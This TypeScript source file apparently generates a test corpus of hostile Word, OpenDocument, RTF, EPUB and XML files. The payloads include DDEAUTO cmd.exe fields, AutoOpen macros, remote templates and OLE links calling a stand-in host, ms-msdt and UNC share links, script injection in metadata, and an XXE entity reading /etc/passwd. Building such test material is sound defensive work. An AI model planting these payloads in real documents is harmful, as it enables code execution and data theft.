/** Payloads in Word documents, OpenDocument texts, RTF and e-books. */
import { type DocxParts, makeDocx, paragraph, run } from "../docx-making.ts";
import { chapter, type EpubParts, madeEpub } from "../made-epub.ts";
import { madeOdt, type OdtXml } from "../made-odt.ts";
import type { MadePart } from "../zip-making.ts";
import { ASKED_HOST, asks, type Payload, script, utf8, wordsOf } from "./payload.ts";

type Making<Parts> = readonly [what: string, parts: (id: string) => Parts];

const RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

function escaped(text: string): string {
  return text.replace(/&/gu, "&amp;").replace(/</gu, "&lt;").replace(/"/gu, "&quot;");
}

/** A field of Word with its last result. */
function field(instruction: string, result: string): string {
  const sign = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  return paragraph(
    `${sign("begin")}<w:r><w:instrText xml:space="preserve"> ${escaped(instruction)} </w:instrText></w:r>${sign("separate")}${run(result)}${sign("end")}`,
  );
}

function part(name: string, content: string): MadePart {
  return { name, content };
}

function related(id: string, type: string, target: string, mode: "External" | "Internal" = "Internal"): string {
  return `<Relationship Id="${id}" Type="${RELATION}/${type}" Target="${escaped(target)}" TargetMode="${mode}"/>`;
}

const linked = (url: string) => ({
  body: paragraph(`<w:hyperlink r:id="l">${run("a link")}</w:hyperlink>`),
  links: { l: escaped(url) },
});

const DOCX: readonly Making<Omit<DocxParts, "body"> & { readonly body?: string }>[] = [
  [
    "a chunk of HTML",
    (id) => ({
      body: '<w:altChunk r:id="c"/>',
      others: [
        part("word/chunk.html", `<html><body><script>${script(id)}</script><img src="${asks(id)}"></body></html>`),
      ],
      relationships: [related("c", "aFChunk", "chunk.html")],
    }),
  ],
  [
    "a chunk of elsewhere",
    (id) => ({
      body: '<w:altChunk r:id="c"/>',
      relationships: [related("c", "aFChunk", asks(id, "chunk.docx"), "External")],
    }),
  ],
  ["a DDE field", (id) => ({ body: field(`DDE cmd "/c calc ${id}"`, "result of a field") })],
  [
    "a DDEAUTO field",
    (id) => ({ body: field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc ${id}"`, "result of a field") }),
  ],
  [
    "a DDEAUTO field in one element",
    (id) => ({
      body: paragraph(
        `<w:fldSimple w:instr="DDEAUTO cmd &quot;/c ${id}&quot;">${run("result of a field")}</w:fldSimple>`,
      ),
    }),
  ],
  [
    "fields within fields that put DDE together",
    (id) => ({ body: field(`SET c "DDEAUTO"`, "") + field(`QUOTE 68 68 69 65 85 84 79 ${id}`, "result of a field") }),
  ],
  [
    "fields that fetch",
    (id) => ({
      body:
        field(`INCLUDEPICTURE "${asks(id, "p.png")}" \\d`, "a picture") +
        field(`INCLUDETEXT "${asks(id, "t.docx")}"`, "a text") +
        field(`RD "${asks(id)}"`, ""),
    }),
  ],
  [
    "a field that runs a macro",
    (id) => ({ body: field(`MACROBUTTON AutoOpen ${id}`, "press here") + field(`AUTOTEXT x`, "") }),
  ],
  ["a link field to a script", (id) => ({ body: field(`HYPERLINK "javascript:${script(id)}"`, "a link") })],
  [
    "a link field to a share",
    (id) => ({ body: field(`HYPERLINK "\\\\\\\\${id}.${ASKED_HOST}\\\\share\\\\x.exe"`, "a link") }),
  ],
  ["a link to a script", (id) => linked(`javascript:${script(id)}`)],
  ["a link to a file", () => linked("file:///C:/Windows/System32/calc.exe")],
  ["a link to a share", (id) => linked(`file://${id}.${ASKED_HOST}/share/x.exe`)],
  ["a link to a page in data", (id) => linked(`data:text/html,<script>${script(id)}</script>`)],
  ["a link to a program", (id) => linked(`ms-msdt:/id PCWDiagnostic ${id}`)],
  [
    "macros",
    (id) => ({
      settings: `<w:attachedTemplate r:id="t"/>`,
      others: [
        part("word/vbaProject.bin", `Attribute VB_Name Sub AutoOpen() Shell "${id}"`),
        part(
          "word/vbaData.xml",
          `<wne:vbaSuppData xmlns:wne="x"><wne:docEvents><wne:eventDocOpen/></wne:docEvents></wne:vbaSuppData>`,
        ),
        part(
          "[Content_Types].xml",
          `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`,
        ),
      ],
    }),
  ],
  [
    "a template from elsewhere",
    (id) => ({
      settings: `<w:attachedTemplate r:id="t"/>`,
      others: [
        part(
          "word/_rels/settings.xml.rels",
          `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="${RELATION}/attachedTemplate" Target="${asks(id, "t.dotm")}" TargetMode="External"/></Relationships>`,
        ),
      ],
    }),
  ],
  [
    "an OLE object of elsewhere",
    (id) => ({
      body: paragraph(
        `<w:r><w:object><v:shape id="s"><v:imagedata r:id="i"/></v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="htmlfile" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="o" UpdateMode="Always"/></w:object></w:r>`,
      ),
      relationships: [
        related("o", "oleObject", `${asks(id, "x.html")}!`, "External"),
        related("i", "image", asks(id, "i.png"), "External"),
      ],
    }),
  ],
  [
    "an OLE package",
    (id) => ({
      body: paragraph(
        `<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="o"/></w:object></w:r>`,
      ),
      others: [part("word/embeddings/oleObject1.bin", `${script(id)}.exe`)],
      relationships: [related("o", "oleObject", "embeddings/oleObject1.bin")],
    }),
  ],
  [
    "an image of elsewhere",
    (id) => ({
      body: paragraph(
        `<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="${escaped(`<img onerror=${script(id)}>`)}"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip r:link="i"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
      ),
      relationships: [related("i", "image", asks(id, "i.png"), "External")],
    }),
  ],
  [
    "a control",
    (id) => ({
      body: paragraph(`<w:r><w:object><w:control r:id="c" w:name="x" w:shapeid="s"/></w:object></w:r>`),
      others: [
        part(
          "word/activeX/activeX1.xml",
          `<ax:ocx xmlns:ax="x" ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}">${script(id)}</ax:ocx>`,
        ),
      ],
      relationships: [related("c", "control", "activeX/activeX1.xml")],
    }),
  ],
  [
    "a frame and a document within",
    (id) => ({
      body: '<w:subDoc r:id="d"/>',
      others: [
        part(
          "word/webSettings.xml",
          `<w:webSettings xmlns:w="x"><w:frameset><w:frame><w:sourceFileName r:id="d"/></w:frame></w:frameset></w:webSettings>`,
        ),
      ],
      relationships: [related("d", "subDocument", asks(id, "d.docx"), "External")],
    }),
  ],
  [
    "a video in a page",
    (id) => ({
      body: paragraph(
        `<w:r><w:drawing><wp:inline><wp:docPr id="1" name="v"><a:extLst xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:ext uri="x"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="${escaped(`<iframe src="javascript:${script(id)}">`)}"/></a:ext></a:extLst></wp:docPr></wp:inline></w:drawing></w:r>`,
      ),
    }),
  ],
  [
    "custom parts with a style sheet",
    (id) => ({
      others: [
        part(
          "customXml/item1.xml",
          `<?xml-stylesheet type="text/xsl" href="${asks(id, "x.xsl")}"?><x>${escaped(script(id))}</x>`,
        ),
      ],
    }),
  ],
];

const DOCX_TEXTS: readonly Making<Omit<DocxParts, "body"> & { readonly body?: string }>[] = [
  [
    "properties in markup",
    (id) => ({
      core: `<dc:title>${escaped(`<img src=x: onerror="${script(id)}">`)}</dc:title><dc:creator>${escaped(`"><script>${script(id)}</script>`)}</dc:creator>`,
      app: `<Company>${escaped(`<svg onload=${script(id)}>`)}</Company>`,
    }),
  ],
  [
    "text in markup",
    (id) => ({
      body: paragraph(
        escaped(
          `<script>${script(id)}</script> {{constructor.constructor('${script(id)}')()}} \${x} =cmd|'/c calc'!A0`,
        ),
      ),
    }),
  ],
  [
    "a comment and its author in markup",
    (id) => ({
      body: paragraph(
        `<w:commentRangeStart w:id="1"/>${run("Commented")}<w:commentRangeEnd w:id="1"/><w:r><w:commentReference w:id="1"/></w:r>`,
      ),
      comments: `<w:comment w:id="1" w:author="${escaped(`<img src=x: onerror=${script(id)}>`)}" w:initials="x">${paragraph(escaped(`<script>${script(id)}</script>`))}</w:comment>`,
    }),
  ],
];

function docx(parts: Omit<DocxParts, "body"> & { readonly body?: string }, id: string): Uint8Array {
  const own = parts.others ?? [];
  const made = makeDocx({
    ...parts,
    body: `${paragraph(wordsOf(id))}${parts.body ?? ""}${paragraph("The end of it.")}`,
    others: own,
  });
  return made;
}

const odtLink = (url: string) => ({
  body: `<text:p><text:a xlink:type="simple" xlink:href="${escaped(url)}">a link</text:a></text:p>`,
});
const SCRIPTED = `xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"`;

const ODT: readonly Making<OdtXml>[] = [
  [
    "event listeners",
    (id) => ({
      body: `<office:event-listeners ${SCRIPTED}><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:${id}.py$x?language=Python&amp;location=share"/></office:event-listeners>`,
    }),
  ],
  [
    "scripts",
    (id) => ({
      body: `<office:scripts ${SCRIPTED}><office:script script:language="JavaScript">${escaped(script(id))}</office:script></office:scripts><text:script ${SCRIPTED} script:language="JavaScript">${escaped(script(id))}</text:script>`,
    }),
  ],
  ["a link to a script", (id) => odtLink(`javascript:${script(id)}`)],
  ["a link to a macro", (id) => odtLink(`vnd.sun.star.script:${id}?language=Basic&location=document`)],
  ["a link to a file and to a share", (id) => odtLink(`file://${id}.${ASKED_HOST}/share/x.exe`)],
  ["a link to a command", () => odtLink(".uno:Quit")],
  [
    "a link that runs something when it is pressed",
    (id) => ({
      body: `<text:p><text:a xlink:href="https://example.org/"><office:event-listeners ${SCRIPTED}><script:event-listener script:event-name="dom:click" xlink:href="javascript:${script(id)}"/></office:event-listeners>a link</text:a></text:p>`,
    }),
  ],
  [
    "a macro field",
    (id) => ({
      body: `<text:p><text:execute-macro text:name="${id}" text:description="x"><office:event-listeners/>press here</text:execute-macro></text:p>`,
    }),
  ],
  [
    "a section of elsewhere",
    (id) => ({
      body: `<text:section text:name="s"><text:section-source xlink:href="${asks(id, "s.odt")}" text:filter-name="x"/><text:p>Last seen</text:p></text:section>`,
    }),
  ],
  [
    "a DDE section",
    (id) => ({
      body: `<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="cmd" office:dde-topic="/c ${id}" office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="d">last value</text:dde-connection></text:p>`,
    }),
  ],
  [
    "objects and images of elsewhere",
    (id) => ({
      body: `<text:p><draw:frame><draw:object xlink:href="${asks(id, "o")}"/><draw:image xlink:href="${asks(id, "i.png")}" xlink:actuate="onLoad"/><draw:plugin xlink:href="${asks(id, "p")}"/><draw:applet draw:code="x" xlink:href="${asks(id, "a")}"/><draw:floating-frame xlink:href="javascript:${script(id)}"/></draw:frame></text:p>`,
    }),
  ],
  [
    "a template of elsewhere that goes elsewhere",
    (id) => ({
      body: "",
      meta: `<meta:template xlink:href="${asks(id, "t.ott")}" xlink:actuate="onRequest"/><meta:auto-reload xlink:href="${asks(id, "r")}" meta:delay="PT0S"/><meta:hyperlink-behaviour office:target-frame-name="_top"/>`,
    }),
  ],
];
const ODT_TEXTS: readonly Making<OdtXml>[] = [
  [
    "properties in markup",
    (id) => ({
      body: "",
      meta: `<dc:title>${escaped(`<script>${script(id)}</script>`)}</dc:title><meta:initial-creator>${escaped(`<img src=x: onerror=${script(id)}>`)}</meta:initial-creator>`,
    }),
  ],
];

const RTF: readonly Making<string>[] = [
  [
    "an object",
    (id) =>
      `{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata 0105000002000000${Buffer.from(script(id)).toString("hex")}}{\\result a picture of it}}\\par`,
  ],
  [
    "an object of elsewhere",
    (id) =>
      `{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata ${Buffer.from(asks(id, "x.hta"), "utf16le").toString("hex")}}{\\result a picture of it}}\\par`,
  ],
  ["a link to a script", (id) => `{\\field{\\*\\fldinst HYPERLINK "javascript:${script(id)}"}{\\fldrslt a link}}\\par`],
  [
    "a link to a file",
    () => `{\\field{\\*\\fldinst HYPERLINK "file:///c:/windows/system32/calc.exe"}{\\fldrslt a link}}\\par`,
  ],
  [
    "a link to a share",
    (id) =>
      `{\\field{\\*\\fldinst HYPERLINK "\\\\\\\\\\\\\\\\${id}.${ASKED_HOST}\\\\\\\\share\\\\\\\\x.exe"}{\\fldrslt a link}}\\par`,
  ],
  [
    "a DDEAUTO field",
    (id) =>
      `{\\field\\flddirty{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k ${id}"}{\\fldrslt last value}}\\par`,
  ],
  [
    "fields that fetch",
    (id) =>
      `{\\field\\flddirty{\\*\\fldinst INCLUDEPICTURE "${asks(id, "p")}" \\\\d}{\\fldrslt a picture}}{\\field{\\*\\fldinst INCLUDETEXT "${asks(id, "t")}"}{\\fldrslt a text}}\\par`,
  ],
  ["a template of elsewhere", (id) => `{\\*\\template ${asks(id, "t.dotm")}}{\\*\\nextfile ${asks(id, "n.rtf")}}`],
  [
    "a picture with data and a shape with a link",
    (id) =>
      `{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlloc javascript:x}{\\hlsrc ${asks(id)}}}}}{\\sp{\\sn pib}{\\sv {\\pict{\\*\\picprop}\\wmetafile8 00}}}}}\\par`,
  ],
  [
    "data stores and user properties",
    (id) =>
      `{\\*\\datastore ${Buffer.from(script(id)).toString("hex")}}{\\*\\userprops {\\propname x}\\proptype30{\\staticval ${asks(id)}}{\\linkval ${asks(id)}}}{\\*\\xmlopen\\xmlns1{\\factoidname x}}`,
  ],
];
const RTF_TEXTS: readonly Making<string>[] = [
  [
    "properties in markup",
    (id) => `{\\info{\\title <script>${script(id)}</script>}{\\author <img src=x: onerror=${script(id)}>}}`,
  ],
  [
    "a page in RTF",
    (id) => `<p>not really</p> {\\*\\htmltag <script>${script(id)}</script>}shown <script>${script(id)}</script>\\par`,
  ],
];

const EPUB: readonly Making<
  Partial<EpubParts> & { readonly body?: string; readonly others?: EpubParts["chapters"] }
>[] = [
  [
    "a script of the book",
    (id) => ({
      body: `<script src="x.js"></script>`,
      others: [{ href: "x.js", html: script(id), mediaType: "text/javascript", isLinear: false }],
    }),
  ],
  [
    "a chapter that is a drawing",
    (id) => ({
      others: [
        {
          href: "d.svg",
          html: `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(id)}"><text>drawn</text></svg>`,
          mediaType: "image/svg+xml",
          isLinear: false,
        },
      ],
    }),
  ],
  [
    "scripted content",
    (id) => ({
      body: `<epub:switch id="s"><epub:case required-namespace="x"><p>cased</p></epub:case></epub:switch><epub:trigger action="show" ref="s"/><object data="${asks(id)}"/>`,
      others: [],
    }),
  ],
];
const EPUB_TEXTS: readonly Making<
  Partial<EpubParts> & { readonly body?: string; readonly others?: EpubParts["chapters"] }
>[] = [
  // A warning names the chapter that is not there.
  ["a chapter of elsewhere", (id) => ({ others: [{ href: asks(id, "c.xhtml"), html: null, isLinear: false }] })],
  ["a chapter above the book", (id) => ({ others: [{ href: `../../../etc/${id}`, html: null, isLinear: false }] })],
  [
    "metadata in markup",
    (id) => ({
      metadata: `<dc:title>${escaped(`<img src=x: onerror=${script(id)}>`)}</dc:title><dc:creator>${escaped(`<script>${script(id)}</script>`)}</dc:creator><dc:source>${escaped(`javascript:${script(id)}`)}</dc:source><dc:identifier>${escaped(`javascript:${script(id)}`)}</dc:identifier>`,
    }),
  ],
];

function rtf(body: string, id: string): Uint8Array {
  return Buffer.from(
    `{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Arial;}}\n${body.startsWith("{\\info") ? body : ""}${wordsOf(id)}\\par\n${body.startsWith("{\\info") ? "" : body}The end of it.\\par}`,
    "latin1",
  );
}

function epub(
  {
    body = "",
    others = [],
    ...rest
  }: Partial<EpubParts> & { readonly body?: string; readonly others?: EpubParts["chapters"] },
  id: string,
): Promise<Uint8Array> {
  return madeEpub({ ...rest, chapters: [chapter("one.xhtml", `<p>${wordsOf(id)}</p>${body}`), ...others] });
}

function payloads<Parts>(
  kind: string,
  extension: string,
  makings: readonly Making<Parts>[],
  make: (parts: Parts, id: string) => Uint8Array | Promise<Uint8Array>,
  isText: boolean,
): Payload[] {
  return makings.map(([what, parts], index) => {
    const id = `${extension}${isText ? "text" : ""}${index + 1}`;
    return {
      id,
      what: `${kind}: ${what}`,
      fileName: `${id}.${extension}`,
      make: () => make(parts(id), id),
      ...(isText ? { isText } : {}),
    };
  });
}

const odt = (xml: OdtXml, id: string) =>
  madeOdt({ ...xml, body: `<text:p>${wordsOf(id)}</text:p>${xml.body}<text:p>The end of it.</text:p>` });

export const DOCUMENT_PAYLOADS: readonly Payload[] = [
  ...payloads("Word", "docx", DOCX, docx, false),
  ...payloads("Word", "docm", DOCX_TEXTS, docx, true),
  ...payloads("OpenDocument", "odt", ODT, odt, false),
  ...payloads("OpenDocument", "odt", ODT_TEXTS, odt, true),
  ...payloads("RTF", "rtf", RTF, rtf, false),
  ...payloads("RTF", "rtf", RTF_TEXTS, rtf, true),
  ...payloads("E-book", "epub", EPUB, epub, false),
  ...payloads("E-book", "epub", EPUB_TEXTS, epub, true),
  {
    id: "xml1",
    what: "XML: a style sheet",
    fileName: "xml1.xml",
    make: () =>
      utf8(
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${asks("xml1", "x.xsl")}"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>${wordsOf("xml1")}</p></body></html>`,
      ),
  },
  {
    id: "xml2",
    what: "XML: entities of files and of elsewhere",
    fileName: "xml2.xhtml",
    make: () =>
      utf8(
        `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY e SYSTEM "${asks("xml2")}"><!ENTITY % p SYSTEM "${asks("xml2", "p")}"> %p; <!ENTITY s "<script>${script("xml2")}</script>">]><html xmlns="http://www.w3.org/1999/xhtml"><body><p>${wordsOf("xml2")}</p><p>&f;&e;&s;</p></body></html>`,
      ),
    isText: true,
  },
];
